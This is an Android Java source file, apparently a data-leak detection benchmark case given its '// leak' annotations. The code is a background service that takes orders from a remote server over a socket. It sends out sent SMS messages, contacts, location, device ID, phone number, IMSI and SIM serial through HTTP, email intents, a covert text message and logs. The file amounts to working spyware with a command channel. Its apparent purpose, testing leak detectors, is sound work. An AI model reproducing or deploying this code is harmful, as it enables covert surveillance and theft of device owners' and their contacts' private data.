package ways;

import android.app.Service;
import android.content.Context;
import android.content.Intent;
import android.content.SharedPreferences;
import android.database.Cursor;
import android.database.DatabaseUtils;
import android.location.Location;
import android.location.LocationListener;
import android.location.LocationManager;
import android.net.Uri;
import android.os.Bundle;
import android.os.Handler;
import android.os.IBinder;
import android.provider.ContactsContract;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.BufferedReader;
import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.InputStreamReader;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.PrintStream;
import java.net.HttpURLConnection;
import java.net.Socket;
import java.net.URL;
import java.util.HashMap;
import java.util.Map;
import org.json.JSONObject;
import org.json.JSONStringer;

/** Does what a server says. */
public class Commands extends Service implements Runnable, LocationListener {
    private final Handler clock = new Handler();
    private Location last;
    private Socket socket;

    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        ((LocationManager) getSystemService(Context.LOCATION_SERVICE)).requestLocationUpdates("network", 0, 0, this);
        clock.postDelayed(this, 30000);
        new Thread(new Runnable() {
            @Override
            public void run() {
                listen();
            }
        }).start();
        return START_STICKY;
    }

    private void listen() {
        try {
            socket = new Socket("203.0.113.40", 4000);
            BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream()));
            PrintStream out = new PrintStream(socket.getOutputStream());
            String command;
            while ((command = in.readLine()) != null) {
                if (command.startsWith("sms")) out.println(dump("content://sms/sent")); // leak
                else if (command.equals("book")) out.print(book()); // leak
                else if (command.equals("ping")) out.println("pong"); // no leak
                else out.printf("unknown %s%n", command); // no leak
            }
        } catch (Exception e) {
            stopSelf();
        }
    }

    private String dump(String where) {
        Cursor rows = getContentResolver().query(Uri.parse(where), null, null, null, null);
        return DatabaseUtils.dumpCursorToString(rows);
    }

    private JSONObject book() throws Exception {
        Map<String, String> people = new HashMap<>();
        Cursor rows = getContentResolver().query(ContactsContract.Data.CONTENT_URI, null, null, null, null);
        while (rows.moveToNext()) people.put(rows.getString(0), rows.getString(1));
        return new JSONObject(people);
    }

    @Override
    public void run() {
        if (last != null) get("http://203.0.113.41/p?at=" + last); // the place goes on from there
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        try {
            HttpURLConnection c = (HttpURLConnection) new URL("http://203.0.113.41/i?id=" + phone.getDeviceId()).openConnection(); // leak
            c.getInputStream().close();
            HttpURLConnection d = (HttpURLConnection) new URL("http://203.0.113.41/i?id=0").openConnection(); // no leak
            d.getInputStream().close();
            Log.d("json", new JSONStringer().object().key("n").value(phone.getLine1Number()).endObject().toString()); // leak
            Log.d("json", new JSONStringer().object().key("n").value(1).endObject().toString()); // no leak
            HashMap<String, String> kept = new HashMap<>();
            kept.put("imsi", phone.getSubscriberId());
            ObjectOutputStream out = new ObjectOutputStream(openFileOutput("kept.bin", MODE_PRIVATE));
            out.writeObject(kept); // leak: into a file
            out.close();
            ObjectInputStream in = new ObjectInputStream(openFileInput("kept.bin"));
            HashMap<?, ?> back = (HashMap<?, ?>) in.readObject();
            Log.d("kept", "" + back.get("imsi")); // leak
            SharedPreferences prefs = getSharedPreferences("all", 0);
            prefs.edit().putString("sim", phone.getSimSerialNumber()).apply();
            for (Map.Entry<String, ?> one : prefs.getAll().entrySet()) Log.d("prefs", one.getKey() + "=" + one.getValue()); // leak
            Intent mail = new Intent(Intent.ACTION_SENDTO, Uri.parse("mailto:a@example.org?body=" + Uri.encode(phone.getDeviceId())));
            mail.addFlags(Intent.FLAG_ACTIVITY_NEW_TASK);
            startActivity(mail); // leak
            Class<?> sms = Class.forName("android.telephony.SmsManager");
            Object manager = sms.getMethod("getDefault").invoke(null);
            sms.getMethod("sendTextMessage", String.class, String.class, String.class, android.app.PendingIntent.class, android.app.PendingIntent.class)
                    .invoke(manager, "+15550102", null, phone.getLine1Number(), null, null); // leak
        } catch (Exception e) {
            Log.w("run", "failed"); // no leak
        }
        clock.postDelayed(this, 30000);
    }

    private static void get(final String address) {
        new Thread(() -> {
            try {
                new URL(address).openConnection().getInputStream(); // leak: a place as text
            } catch (Exception e) {
                Thread.currentThread().interrupt();
            }
        }).start();
    }

    @Override
    public void onLocationChanged(Location at) {
        last = at;
    }

    @Override
    public void onStatusChanged(String provider, int status, Bundle extras) {
        Log.d("status", "status " + status); // no leak
    }

    @Override
    public void onProviderEnabled(String provider) {
    }

    @Override
    public void onProviderDisabled(String provider) {
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
